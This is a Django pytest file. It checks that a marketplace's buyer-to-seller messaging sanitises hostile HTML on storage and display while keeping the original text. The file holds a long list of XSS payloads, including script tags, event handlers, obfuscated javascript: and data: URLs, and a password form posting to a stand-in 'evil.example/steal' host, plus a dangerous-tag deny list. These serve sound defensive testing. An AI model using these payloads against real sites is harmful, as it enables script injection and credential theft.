"""Hostile HTML in a message body is neutralised, whichever way the message comes in.

Jordan (the buyer) pastes nasty markup into messages to Northwind Home Goods, through the
send service and through the reply form; Sam reads the conversation. What is stored in
body_html and what the conversation page shows must be inert. body_text keeps exactly what
Jordan wrote.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from messagecenter.messaging.models import Message
from messagecenter.threads.models import Side
from tests import factories

# Each vector is something a browser would run, load or submit if it got through.
HOSTILE = {
    "script tag": "<script>alert(1)</script>Hello",
    "script with src": '<script src="https://evil.example/x.js"></script>Hi',
    "mixed-case script": "<ScRiPt>alert(1)</sCrIpT>Hi",
    "nested script halves": "<scr<script>ipt>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>Photo",
    "onclick on a paragraph": '<p onclick="alert(1)">Click me</p>',
    "onload on body": "<body onload=alert(1)>Body",
    "onmouseover on a link": (
        '<a href="https://marketplace.example/help" onmouseover="alert(1)">help</a>'
    ),
    "ontoggle on details": "<details open ontoggle=alert(1)>x</details>",
    "javascript url": '<a href="javascript:alert(1)">click</a>',
    "mixed-case javascript url": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "entity-encoded javascript url": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'
    ),
    "hex entities and colon entity": '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    "zero-padded entity": '<a href="java&#0000115;cript:alert(1)">click</a>',
    "tab inside scheme": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "newline inside scheme": '<a href="java\nscript:alert(1)">click</a>',
    "leading space and control char": '<a href=" &#14; javascript:alert(1)">click</a>',
    "unquoted javascript url": "<a href=javascript:alert(1)>click</a>",
    "data url html": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'
    ),
    "mixed-case data url": '<a href="DaTa:text/html,<script>alert(1)</script>">click</a>',
    "vbscript url": '<a href="vbscript:msgbox(1)">click</a>',
    "data image with svg": 'Photo: <img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "iframe": '<iframe src="https://evil.example"></iframe>Framed',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>x',
    "object and embed": '<object data="evil.swf"></object><embed src="evil.swf">Flash',
    "form with password input": (
        '<form action="https://evil.example/steal" method="post">'
        '<input type="password" name="p"><button formaction="https://evil.example">Log in'
        "</button></form>"
    ),
    "textarea and select": "<textarea>t</textarea><select><option>o</option></select>ok",
    "style tag": "<style>body { display: none }</style>Visible",
    "style attribute": '<p style="background:url(javascript:alert(1))">Styled</p>',
    "css expression": '<div style="width: expression(alert(1))">Old IE</div>',
    "svg with script": "<svg><script>alert(1)</script><circle r=5 /></svg>Shape",
    "svg onload": "Shape: <svg/onload=alert(1)>",
    "math confusion": "Sum: <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi',
    "base href": '<base href="https://evil.example/">Hi',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">Hi',
    "comment hiding a script": "<!-- <script>alert(1)</script> -->Hello",
    "broken comment": "<!--><script>alert(1)</script>-->Hello",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->Hello",
    "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>Hi",
    "xmp raw text": "<xmp><script>alert(1)</script></xmp>",
    "video source onerror": "<video><source onerror=alert(1)></video>Clip",
    "target blank opener": (
        '<a href="https://marketplace.example/help" target="_blank" rel="opener">help</a>'
    ),
    "title attribute breakout": (
        '<a href="https://marketplace.example/help" title="x>y&quot; onmouseover=&quot;'
        'alert(1)">help</a> then mail jordan.m@gmail.com'
    ),
}

# fmt: off
DANGEROUS_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "option", "style", "link", "meta", "base", "svg", "math",
    "img", "video", "audio", "source", "template", "noscript", "xmp", "details", "body",
    "html", "head",
})
# fmt: on
HARMLESS_ATTRIBUTES = frozenset({"href", "title", "rel", "colspan", "rowspan", "scope"})
SAFE_SCHEMES = ("http:", "https:", "mailto:")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


@dataclass
class Markup:
    """What a fragment of HTML contains, as a browser's tokenizer would see it."""

    elements: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    @property
    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    @property
    def links(self) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.elements if tag == "a"]

    @property
    def shown_text(self) -> str:
        return "".join(self.text)

    def add(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A repeated attribute would be a second chance to slip something in: keep both.
        attributes: dict[str, str] = {}
        for name, value in attrs:
            key = name if name not in attributes else f"{name}#{len(attributes)}"
            attributes[key] = value or ""
        self.elements.append((tag, attributes))


class _Reader(HTMLParser):
    """Collects a fragment, or only the message bodies of a whole page."""

    VOID = frozenset({"br", "img", "input", "meta", "link", "base", "hr", "source", "embed"})

    def __init__(self, only_class: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.only_class = only_class
        self.depth = 0 if only_class else 1
        self.bodies: list[Markup] = [] if only_class else [Markup()]

    @property
    def inside(self) -> bool:
        return self.depth > 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = (dict(attrs).get("class") or "").split()
        if self.only_class and not self.inside and tag == "div" and self.only_class in classes:
            self.bodies.append(Markup())
            self.depth = 1
            return
        if not self.inside:
            return
        self.bodies[-1].add(tag, attrs)
        if self.only_class and tag not in self.VOID:
            self.depth += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.inside:
            self.bodies[-1].add(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if self.only_class and self.inside and tag not in self.VOID:
            self.depth -= 1

    def handle_comment(self, data: str) -> None:
        if self.inside:
            self.bodies[-1].comments.append(data)

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.bodies[-1].text.append(data)


def read_fragment(markup: str) -> Markup:
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    return reader.bodies[0]


def message_bodies(page: str) -> list[Markup]:
    reader = _Reader(only_class="message__body")
    reader.feed(page)
    reader.close()
    return reader.bodies


def _scheme(url: str) -> str | None:
    # Browsers drop control characters and whitespace before reading a scheme.
    squeezed = "".join(ch for ch in url if ord(ch) > 0x20 and ord(ch) != 0x7F).lower()
    match = _SCHEME.match(squeezed)
    return match.group(1) + ":" if match else None


def assert_inert(markup: Markup, raw: str = "") -> None:
    assert not DANGEROUS_TAGS & set(markup.tags), markup.tags
    assert markup.comments == [], "comments can hide markup from a reviewer"
    for tag, attributes in markup.elements:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, attributes)
            assert name in HARMLESS_ATTRIBUTES, (tag, attributes)
            if name == "href":
                scheme = _scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, value
    if raw:
        assert not re.search(r"<\s*(script|iframe|svg|style|form|object|embed)", raw, re.I)


@pytest.fixture
def conversation(jordans_order, sam):
    """Jordan has already written once, so the conversation exists and Sam can reply."""
    return factories.buyer_message(jordans_order, "Hello, a question about my order.").conversation


# --- Through the send service ----------------------------------------------------------------


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_send_service_stores_inert_html_and_keeps_the_text_as_written(
    client, jordans_order, sam, body
):
    message = factories.buyer_message(jordans_order, body)

    assert message.body_text == body
    assert_inert(read_fragment(message.body_html), message.body_html)

    client.force_login(sam)
    page = client.get(reverse("seller_conversation", args=[message.conversation_id]))
    assert page.status_code == 200
    [shown] = message_bodies(page.content.decode())
    assert_inert(shown)


# --- Through the web reply form --------------------------------------------------------------


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_reply_form_stores_inert_html_and_pages_show_it_inert(
    client, conversation, jordan, sam, body
):
    client.force_login(jordan)
    url = reverse("buyer_conversation", args=[conversation.pk])

    response = client.post(url, {"body": body})

    assert response.status_code == 302, response.content.decode()[:2000]
    message = Message.objects.filter(conversation=conversation).latest("id")
    assert message.body_text == body
    assert_inert(read_fragment(message.body_html), message.body_html)

    for viewer, page_url in (
        (jordan, url),
        (sam, reverse("seller_conversation", args=[conversation.pk])),
    ):
        client.force_login(viewer)
        bodies = message_bodies(client.get(page_url).content.decode())
        assert len(bodies) == 2
        for shown in bodies:
            assert_inert(shown)


def test_a_whole_page_of_hostile_messages_has_no_live_markup_in_any_body(
    client, conversation, jordan
):
    for body in HOSTILE.values():
        factories.reply(conversation, jordan, Side.BUYER, body)
    client.force_login(jordan)

    page = client.get(reverse("buyer_conversation", args=[conversation.pk])).content.decode()

    bodies = message_bodies(page)
    assert len(bodies) == len(HOSTILE) + 1
    for shown in bodies:
        assert_inert(shown)


# --- What is kept ----------------------------------------------------------------------------


def test_links_keep_working_and_get_noopener_noreferrer(client, jordans_order, sam):
    body = (
        '<p>See <a href="https://marketplace.example/help/returns?order=1&amp;step=2" '
        'target="_blank" rel="opener">the returns page</a> and '
        '<a href="https://marketplace.example/contact">contact</a>.</p>'
    )
    message = factories.buyer_message(jordans_order, body)

    for markup in (
        read_fragment(message.body_html),
        _shown_to(client, sam, message),
    ):
        assert markup.links == [
            {
                "href": "https://marketplace.example/help/returns?order=1&step=2",
                "rel": "noopener noreferrer",
            },
            {"href": "https://marketplace.example/contact", "rel": "noopener noreferrer"},
        ]
        assert "the returns page" in markup.shown_text


def test_disarmed_links_keep_their_text(jordans_order):
    message = factories.buyer_message(jordans_order, '<a href="javascript:alert(1)">Track</a>')

    fragment = read_fragment(message.body_html)
    assert fragment.shown_text == "Track"
    assert all("href" not in link for link in fragment.links)


def test_allowed_formatting_survives(jordans_order):
    body = "<p>Hi <strong>there</strong>,</p><ul><li>one</li><li><em>two</em></li></ul>"
    message = factories.buyer_message(jordans_order, body)

    assert message.body_html == body


def test_plain_text_with_angle_brackets_shows_as_written(client, jordans_order, sam):
    body = "Is 3 < 5 & 7 > 2?\nThe box says a<b) and <3"
    message = factories.buyer_message(jordans_order, body)

    assert message.body_text == body
    assert message.body_html == (
        "<p>Is 3 &lt; 5 &amp; 7 &gt; 2?<br>The box says a&lt;b) and &lt;3</p>"
    )
    shown = _shown_to(client, sam, message)
    assert shown.tags == ["p", "br"]
    assert shown.shown_text == "Is 3 < 5 & 7 > 2?The box says a<b) and <3"


def test_text_with_real_tags_is_read_as_html(client, jordans_order, sam):
    message = factories.buyer_message(jordans_order, "<b>hi</b> & <3")

    assert message.body_text == "<b>hi</b> & <3"
    shown = _shown_to(client, sam, message)
    assert shown.tags == ["b"]
    assert shown.shown_text == "hi & <3"


def test_plain_text_paragraphs_and_line_breaks_are_kept(jordans_order):
    body = "First line\r\nsecond line\r\n\r\nA new paragraph"
    message = factories.buyer_message(jordans_order, body)

    assert message.body_text == body
    assert message.body_html == "<p>First line<br>second line</p><p>A new paragraph</p>"


def test_reply_form_keeps_the_body_exactly_as_typed(client, conversation, jordan):
    body = "  Leading spaces,\r\ntrailing spaces  \r\n\r\n<i>and</i> a tag  "
    client.force_login(jordan)

    response = client.post(reverse("buyer_conversation", args=[conversation.pk]), {"body": body})

    assert response.status_code == 302
    assert Message.objects.filter(conversation=conversation).latest("id").body_text == body


def _shown_to(client, viewer, message: Message) -> Markup:
    """The body of the conversation's latest message, as the viewer's page shows it."""
    client.force_login(viewer)
    name = "seller_conversation" if viewer.memberships.exists() else "buyer_conversation"
    page = client.get(reverse(name, args=[message.conversation_id])).content.decode()
    return message_bodies(page)[-1]
